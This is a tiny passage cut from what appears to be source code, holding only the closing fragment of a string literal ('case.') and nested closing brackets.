            "case."])])
